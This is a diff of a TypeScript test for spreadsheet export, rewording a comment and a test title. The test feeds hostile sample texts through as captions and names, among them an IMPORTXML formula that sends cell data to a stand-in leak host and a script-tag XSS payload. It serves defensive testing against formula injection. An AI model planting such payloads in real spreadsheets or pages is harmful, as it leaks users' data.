@@ -5,7 +5,7 @@ import { goodKey, setKey, setUpWorkbench } from '../spreadsheet-setup.ts';
 
 const bench = setUpWorkbench();
 
-/** Invented texts that a spreadsheet would take for something else. */
+/** Invented texts that a spreadsheet could parse as formulas, numbers or dates. */
 const texts = [
   '=1+1',
   '=IMPORTXML("http://leak.example/?"&A1,"//a")',
@@ -26,7 +26,7 @@ const texts = [
   '<script>alert(1)</script>',
 ];
 
-test('captions and names stay the text they are, whatever they begin with', async () => {
+test('captions and names stay unchanged text, whatever they begin with', async () => {
   const urls = texts.map((_, index) => `https://photo.example/h${index}`);
   const hostile = Object.fromEntries(
     urls.map((url, index) => [url, { bio: texts[index], account_id: '7234567890123456789' }]),
